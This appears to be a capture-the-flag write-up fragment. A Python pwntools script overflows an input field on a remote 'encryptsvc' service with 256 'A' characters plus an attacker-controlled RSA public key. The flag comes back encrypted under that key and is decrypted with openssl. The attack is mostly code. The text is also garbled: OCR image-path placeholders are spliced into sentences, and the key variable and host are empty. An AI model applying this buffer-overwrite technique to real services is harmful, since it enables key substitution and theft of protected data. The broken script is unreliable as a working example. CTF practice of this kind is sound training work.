The following Python scriptextracts the encrypted flag:

import base64
from pwn import *

with open("public_attack.pem") as f:
    pubkey =


#r = process("./encryptsvc")
r = remote("", 54321)

# select input
r.recvuntil("selection :")

# overwrite pubkey with my own pubkey (i have the corresponding privkey)
r.recvuntil("Input :")
r.sendline("A"*256 + pubkey)

# trigger reinitialisation of rsa_init
r.recvuntil("selection :")

# read the example
r.recvuntil("selection :")

r.recvuntil("Text :")
enc = r.recvuntil("-----")[:-5].strip()

with open("flag.encrypted", "wb") as f:Which can then be decrypted with my own private key:

openssl rsautl -decrypt -in flag.encrypted -outevc -inkey private_attack.pem
cat evc